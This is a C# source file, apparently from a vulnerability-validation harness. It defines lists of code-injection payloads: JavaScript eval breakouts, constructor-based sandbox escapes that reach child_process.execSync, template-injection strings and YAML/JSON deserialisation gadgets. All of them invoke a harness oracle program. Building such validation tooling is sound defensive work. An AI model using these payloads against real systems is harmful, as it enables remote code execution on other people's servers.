using CodexSecurity.Pipeline.Validation.Judging;
using CodexSecurity.Pipeline.Validation.Planning;

namespace CodexSecurity.Pipeline.Validation.Library.Payloads;

/// <summary>
/// Text that becomes code, by class: evaluated text, templates, deserialised data. The effect is the start of the attacker's program: by a
/// name that the harness defines for evaluated code, through the main module, or through the constructors of an emptied scope.
/// </summary>
public sealed class CodePayloads(AttackClass attack) : TextKit
{
    // The short form holds no quotes and no dots.
    private const string Call = CommandOracle.Program + "('{T}')";
    private const string Main = "process.mainModule.require('child_process').execSync('" + CommandOracle.Program + "{T}')";
    private const string Escape = "this.constructor.constructor(\"return process\")().mainModule.require(\"child_process\").execSync(\"" + CommandOracle.Program + "{T}\")";
    private const string Short = CommandOracle.Program + "(`{T}`)";

    private static readonly TextPayload[] s_code =
    [
        new("expression, main module", Main), new("expression", Call), new("expression without brackets", CommandOracle.Program + "`{T}`"), new("constructor escape", Escape), new("statement", ";" + Call + ";//"),
        new("single-quote breakout", "'+" + Short + "+'"), new("double-quote breakout", "\"+" + Short + "+\""), new("template breakout", "${" + Call + "}"),
        new("backtick breakout", "`+" + Call + "+`"), new("closing bracket", "1);" + Call + ";//"), new("closing quote and bracket", "');" + Short + ";//"),
        new("closing double quote and bracket", "\");" + Short + ";//"), new("newline", "{B}\n;" + Call + ";//"), new("function text", "function(){" + Call + "}"),
        new("called function text", "(function(){" + Call + "})()"), new("benign and expression", "{B};" + Call), new("function constructor", "[].constructor.constructor(\"" + Short + "\")()"),
    ];

    private static readonly TextPayload[] s_more =
    [
        new("closing brace", "}" + Call + ";{"), new("closing brace, comment", "};" + Call + ";//"), new("closing quote and index", "'];" + Short + ";//"),
        new("escaped quote breakout", "\\\"+" + Short + ";//"), new("escaped single-quote breakout", "\\'+" + Short + ";//"), new("closing double quote and index", "\"];" + Short + ";//"), new("index", "a[" + Call + "]"), new("default parameter", "a=" + Call), new("function text, closing brace", "function(){};" + Short + ";{}"), new("function text, closing bracket", "function(){});" + Short + ";(function(){"), new("closing parameters", "a){" + Call + "}//"),
        new("closing comment", "*/" + Call + "/*"), new("object", "{a:" + Call + "}"), new("list", "[" + Call + "]"), new("list in a formula", "SUM([" + Call + ",2])"), new("function name", "a(){});" + Short + ";(function"), new("arrow function", "()=>" + Call), new("bracketed", "(" + Call + ")"),
        new("key and expression", "a:" + Call + ",b"), new("comma", "1," + Call), new("or", "0||" + Call),
        new("member constructor", "cos.constructor(\"" + Short + "\")()"), new("text constructor", "\"\".sub.constructor(\"" + Short + "\")()"),
        new("constructor of a call", "f=(a).constructor.constructor(\"" + Short + "\")()"), new("closing quote", "';" + Short + ";//"), new("closing double quote", "\";" + Short + ";//"),
        new("closing call", "'));" + Short + ";//"), new("property", "constructor.constructor(\"" + Short + "\")()"), new("assignment", "a;" + Call + ";var b"), new("dotted", "x." + Call),
        new("constructor escape through a list", "[].constructor.constructor(\"return process\")().mainModule.require(\"child_process\").execSync(\"" + CommandOracle.Program + "{T}\")"),
        new("throwing escape", "(()=>{try{null.x}catch(e){return e.constructor.constructor(\"return process\")().mainModule.require(\"child_process\").execSync(\"" + CommandOracle.Program + "{T}\")}})()"),
        new("caller escape", "(function(){return arguments.callee.caller.constructor(\"" + Short + "\")()})()"),
    ];

    private static readonly TextPayload[] s_templates =
    [
        new("output tag", "<%= " + Call + " %>"), new("script tag", "<% " + Call + " %>"), new("double braces", "{{ " + Call + " }}"), new("equals braces", "{{= " + Call + " }}"),
        new("interpolation", "${" + Call + "}"), new("hash interpolation", "#{" + Call + "}"), new("constructor braces", "{{constructor.constructor(\"" + Short + "\")()}}"),
        new("range constructor", "{{range.constructor(\"" + Short + "\")()}}"), new("pug", "- " + Call), new("pug text", "#{[].constructor.constructor(\"" + Short + "\")()}"),
        new("output tag, constructor", "<%= [].constructor.constructor(\"" + Main.Replace("'", "\\'", StringComparison.Ordinal) + "\")() %>"), new("triple braces", "{{{ " + Call + " }}}"),
        new("handlebars", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return "
            + Short + ";\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ];

    private static readonly TextPayload[] s_data =
    [
        new("marked function in JSON", "{\"x\":\"_$$ND_FUNC$$_function(){" + Short + "}()\"}"), new("YAML function", "{ toString: !!js/function 'function(){" + Short + "}' }"),
        new("YAML function, long tag", "\"toString\": !<tag:yaml.org,2002:js/function> \"function(){" + Short + "}\""), new("YAML called function", "a: !!js/function '(function(){" + Short + "})()'"),
        new("YAML function as key", "{ !!js/function 'function(){" + Short + "}' : 1 }"), new("YAML object as key", "{ ? { toString: !!js/function 'function(){" + Short + "}' } : 1 }"), new("YAML escaped function", "!!js/function >\n  function(){" + Short + "}"),
        new("function in JSON", "{\"x\":{\"__js_function\":\"function(){" + Short + "}()\"}}"), new("JavaScript object", "({a:" + Short + "})"), new("expression", Call),
        new("object property", "{\"a\":" + Short + "}"), new("regular expression tag", "!!js/regexp /x/e"), new("bracketed call", "(function(){" + Short + "})()"),
    ];

    /// <inheritdoc />
    public override AttackClass Class => attack;

    /// <inheritdoc />
    public override OracleSpec Oracle => OracleSpec.Of("command");

    /// <inheritdoc />
    public override string Benign => "1";

    /// <inheritdoc />
    public override IReadOnlyList<TextPayload> Payloads(bool wide) => attack switch
    {
        AttackClass.Template => wide ? [.. s_templates, .. s_code] : s_templates,
        AttackClass.Deserialization => wide ? [.. s_data, .. s_code] : s_data,
        _ => wide ? [.. s_code, .. s_more, .. s_data, .. s_templates] : s_code,
    };

    /// <inheritdoc />
    public override ProofJob Equip(ProofJob job, IReadOnlyList<string> tags) =>
        job with { TraceCommands = true, StandIns = [.. job.StandIns, .. tags.Select(t => CommandOracle.Program + t)] };

    /// <inheritdoc />
    public override HarnessInput Tune(HarnessInput input) => base.Tune(input) with { Beacon = CommandOracle.Program, Touch = true };
}
